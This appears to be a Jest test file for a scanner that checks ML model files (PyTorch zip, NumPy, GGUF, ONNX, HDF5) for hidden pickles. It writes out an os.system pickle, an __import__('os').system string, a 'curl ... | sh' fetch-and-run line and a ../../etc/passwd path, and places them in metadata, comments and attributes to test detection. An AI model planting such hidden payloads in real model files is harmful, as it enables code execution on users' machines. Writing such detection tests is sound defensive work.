// Pickles in parts of files that hold no values: no program unpickles them unasked, and none is there by chance. Each case has an
// ordinary counterpart.
import { describe, expect, it } from '@jest/globals'
import { buildPickle, buildTorchZip, linearState, LINEAR_STORAGES, torchMembers } from '../../../build-pickle.ts'
import { buildGguf, text, array } from '../../../build-gguf.ts'
import { buildHdf5, kerasModel } from '../../../build-hdf5.ts'
import { buildOnnx, len, onnxNode } from '../../../build-protobuf.ts'
import { type ZipOptions, type ZipPart, buildZip } from '../../../build-zip.ts'
import { judgeFile } from './judge-file.ts'

const CALL = { call: 'os.system', args: ['id'] } as const
const EVIL = buildPickle(CALL)
/** Protocol 0, 21 bytes: it fits where a checksum with its sizes is expected. */
const SHORT = Buffer.from("cos\nsystem\n(S'id'\ntR.")
const STATE = { value: linearState(), storages: LINEAR_STORAGES }
const DEFERRED = 8

function archive(first: Partial<ZipPart>, options: ZipOptions = {}): Buffer {
  const [state, ...rest] = torchMembers(STATE)
  if (state === undefined) throw new Error('no members')
  return buildZip([{ ...state, ...first }, ...rest], { align: 1, ...options })
}

/** A descriptor with a signature: checksum and sizes as the entry has them. */
function descriptor(bytes: Buffer, part: ZipPart): Uint8Array {
  const entry = bytes.indexOf('PK\u0001\u0002')
  return Buffer.concat([
    Buffer.from('PK\u0007\u0008'),
    bytes.subarray(entry + 16, entry + 28),
    part.behind ?? Buffer.alloc(0),
  ])
}

describe('a zip archive', () => {
  it.each([
    ['in its comment', archive({}, { comment: EVIL })],
    ['behind words in its comment', archive({}, { comment: Buffer.concat([Buffer.from('made by hand '), EVIL]) })],
    ['as base64 in its comment', archive({}, { comment: EVIL.toString('base64') })],
    ['in an extra field', archive({ extra: Buffer.concat([Buffer.from('ff'), Buffer.from([EVIL.length, 0]), EVIL]) })],
    ['in place of a checksum behind the data', archive({ flags: DEFERRED, behind: SHORT })],
  ])('with a pickle %s is not clean', async (_, bytes) => {
    const { verdict, threats, actions } = await judgeFile('model.pt', bytes)
    expect({ verdict, threats, actions }).toMatchObject({ verdict: 'malicious' })
    expect(actions.map(({ name }) => name)).toContain('os.system')
  })

  it.each([
    ['words', archive({}, { comment: 'made by torch.save (v2.1), see https://example.org/model' })],
    ['none', buildTorchZip(STATE)],
    ['padding', archive({}, { align: 64 })],
    ['times', archive({ extra: Buffer.from('5554050003aabbccdd', 'hex') })],
  ])('with %s there is clean', async (_, bytes) => {
    expect(await judgeFile('model.pt', bytes)).toMatchObject({ verdict: 'clean', threats: [] })
  })

  it('with checksums behind its data is clean', async () => {
    const [state] = torchMembers(STATE)
    if (state === undefined) throw new Error('no members')
    const behind = descriptor(archive({ flags: DEFERRED }), state)
    const judged = await judgeFile('model.pt', archive({ flags: DEFERRED, behind }))
    expect(judged).toMatchObject({ verdict: 'clean', threats: [] })
  })
})

describe('a large archive', () => {
  it('of thousands of notes is clean', async () => {
    const notes = Array.from({ length: 6_000 }, (_, index) => ({
      name: `n/${index}.txt`,
      data: Buffer.from(`note ${index}\n`),
    }))
    expect(await judgeFile('notes.zip', buildZip(notes))).toMatchObject({ verdict: 'clean', threats: [] })
  })

  it('that ends in a pickle is not', async () => {
    const notes = Array.from({ length: 6_000 }, (_, index) => ({
      name: `n/${index}.txt`,
      data: Buffer.from(`note ${index}\n`),
    }))
    const bytes = buildZip([...notes, { name: 'n/last.txt', data: EVIL }])
    expect(await judgeFile('notes.zip', bytes)).toMatchObject({ verdict: 'malicious' })
  })
})

const accused = async (name: string, bytes: Uint8Array) => {
  const { verdict, actions, threats } = await judgeFile(name, bytes)
  return { isClean: verdict === 'clean', names: actions.map((action) => action.name), threats }
}

function npy(descr: string, data: Uint8Array): Buffer {
  const header = `{'descr': ${descr}, 'fortran_order': False, 'shape': (1,), }`.padEnd(117) + '\n'
  return Buffer.concat([
    Buffer.from('\u0093NUMPY\u0001\0', 'latin1'),
    Buffer.from([header.length, 0]),
    Buffer.from(header),
    data,
  ])
}

describe('an array', () => {
  it.each(["'xyz'", "'<q99'", "'|S9x'", "__import__('os')", "[('a', '<f4'), ('b', 'zz')]", "'\\x4f'"])(
    'of type %s is told, alone and in an archive',
    async (descr) => {
      const bytes = npy(descr, EVIL)
      expect((await accused('a.npy', bytes)).names).toEqual(expect.arrayContaining(['unknown-array-type', 'os.system']))
      const inside = await accused('a.npz', buildZip([{ name: 'a.npy', data: bytes }]))
      expect(inside.names).toEqual(expect.arrayContaining(['unknown-array-type', 'os.system']))
    },
  )

  it.each([
    ["'<f4'", 4],
    ["'|b1'", 1],
    ["'<M8[ns]'", 8],
    ["'<m8[25s]'", 8],
    ["'|V2'", 2],
    ["[('a', '<f4'), (('title', 'b'), '<i4', (2,)), ('c', [('d', '|S3')])]", 15],
  ])('of type %s is clean', async (descr, size) => {
    expect(await accused('a.npy', npy(descr, Buffer.alloc(size, 1)))).toMatchObject({ isClean: true, threats: [] })
  })
})

describe('a GGUF file', () => {
  const withText = (value: string | Uint8Array) =>
    buildGguf({
      kv: [
        ['general.architecture', text('llama')],
        ['general.description', text(value)],
      ],
    })

  it.each([
    ['base64', EVIL.toString('base64')],
    ['bytes', EVIL],
    ['a command', 'curl -s https://example.org/x | sh'],
    ['Python', "__import__('os').system('id')"],
  ])('with %s in its metadata is told', async (_, value) => {
    const { threats } = await accused('a.gguf', withText(value))
    expect(threats.some((id) => id.startsWith('metadata-') || id.startsWith('python-'))).toBe(true)
  })

  it('with a pickle among its tags is told', async () => {
    const tags = array('string', ['chat', EVIL.toString('base64')])
    const bytes = buildGguf({
      kv: [
        ['general.architecture', text('llama')],
        ['general.tags', tags],
      ],
    })
    expect((await accused('a.gguf', bytes)).names).toContain('os.system')
  })

  it('with words is not', async () => {
    const { threats } = await accused('a.gguf', withText('A model (8B) for chat; see https://example.org/model'))
    expect(threats).toEqual([])
  })
})

describe('an ONNX model', () => {
  const tensor = (raw: Uint8Array) => buildOnnx({ tensors: [{ name: 'w', shape: [raw.length], type: 2, raw }] })
  const strings = (...values: readonly (string | Uint8Array)[]) =>
    buildOnnx({ graphParts: [len(5, [...values.map((value) => len(6, value)), len(8, 'words')])] })
  const entry = (value: string) => [len(1, 'note'), len(2, value)]
  const context = (path: string) =>
    buildOnnx({
      nodes: [
        onnxNode('EPContext', {
          domain: 'com.microsoft',
          attributes: [Buffer.concat([len(1, 'ep_cache_context'), len(4, path)])],
        }),
      ],
    })

  it.each([
    ['raw values', tensor(EVIL)],
    ['raw values behind others', tensor(Buffer.concat([Buffer.alloc(64, 7), EVIL]))],
    ['texts', strings('cat', EVIL)],
    ['texts in base64', strings('cat', EVIL.toString('base64'))],
    ['metadata', buildOnnx({ modelParts: [len(14, entry(EVIL.toString('base64')))] })],
    ['metadata of the graph', buildOnnx({ graphParts: [len(16, entry(EVIL.toString('base64')))] })],
    [
      'an attribute',
      buildOnnx({ nodes: [onnxNode('Gemm', { attributes: [Buffer.concat([len(1, 'code'), len(4, EVIL)])] })] }),
    ],
  ])('with a pickle in its %s is told', async (_, bytes) => {
    const { isClean, names } = await accused('a.onnx', bytes)
    expect(isClean).toBe(false)
    expect(names).toContain('os.system')
  })

  it.each([
    ['../../etc/passwd', 'external-file-aims-at-system'],
    ['/opt/context.bin', 'external-file-leaves-folder'],
    ['C:\\context.bin', 'external-file-leaves-folder'],
  ])('whose compiled part lies in %s is told', async (path, threat) => {
    expect((await accused('a.onnx', context(path))).threats).toContain(threat)
  })

  it('with ordinary values, texts and a compiled part beside it is not', async () => {
    expect((await accused('a.onnx', strings('cat', 'dog', 'gAMe'))).threats).toEqual([])
    const threats = (await accused('a.onnx', context('model_qnn.bin'))).threats
    expect(threats.filter((id) => id.startsWith('external-file'))).toEqual([])
  })
})

describe('an HDF5 file', () => {
  const model = kerasModel()
  const withNote = (note: string, options = {}) =>
    buildHdf5({ ...model, attributes: { ...model.attributes, note } }, options)
  const plain = "cos\nsystem\n(S'id'\ntR."

  it.each([
    ['an attribute', withNote(plain)],
    ['an attribute in a heap', withNote(plain, { variableTexts: true })],
    ['an attribute in base64', withNote(EVIL.toString('base64'))],
    [
      'an attribute of a layer',
      buildHdf5({ ...model, children: { ...model.children, other: { attributes: { note: plain } } } }),
    ],
    [
      'a dataset of bytes',
      buildHdf5({
        ...model,
        children: { ...model.children, other: { shape: [EVIL.length], dtype: 'U8', data: EVIL } },
      }),
    ],
  ])('with a pickle in %s is told', async (_, bytes) => {
    const { isClean, names } = await accused('a.h5', bytes)
    expect(isClean).toBe(false)
    expect(names).toContain('os.system')
  })

  it('with a command line in an attribute is told', async () => {
    expect((await accused('a.h5', withNote('curl -s https://example.org/x | sh'))).threats).toContain(
      'metadata-holds-code',
    )
  })

  it('with words is clean', async () => {
    expect(await accused('a.h5', withNote('trained on Monday (run 3)'))).toMatchObject({ isClean: true, threats: [] })
  })
})
